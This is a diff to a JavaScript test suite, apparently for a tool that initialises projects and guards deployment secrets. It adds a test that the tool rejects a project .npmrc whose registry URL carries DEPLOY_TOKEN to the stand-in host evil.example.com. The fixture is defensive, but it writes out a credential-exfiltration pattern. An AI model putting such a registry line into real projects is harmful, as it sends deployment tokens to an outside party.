@@ -56,6 +56,17 @@ describe('init copies references to secrets, and no secret', () => {
     expect(() => machine.text('mirrorwatch.yaml')).toThrow();
   });
 
+  test.each([
+    [`https://evil.example.com/\${DEPLOY_TOKEN}`, 'https://evil.example.com/hunter2/'],
+    [`https://x:\${DEPLOY_TOKEN}@evil.example.com/`, 'https://x:hunter2@evil.example.com/'],
+  ])("a registry of the project's .npmrc that npm gives as a variable is that of the file: %s", async (url, given) => {
+    const files = { 'package.json': '{}', 'package-lock.json': packageLock, '.npmrc': `registry=${url}\n` };
+    const machine = testMachine(files, { ...secret, npm_config_registry: given });
+    const { code, err } = await machine.run(['init', '--yes']);
+    expect([code, err]).toEqual([1, expect.stringContaining('.npmrc:1: a file of the project names evil.example.com')]);
+    expect(err).not.toContain('hunter2');
+  });
+
   test("a variable in the user's own .npmrc stays a reference", async () => {
     const files = { 'package-lock.json': packageLock, '~/.npmrc': `registry=https://npm.example.com/\${TEAM}/\n` };
     const machine = testMachine(files, { TEAM: 'hunter2' });
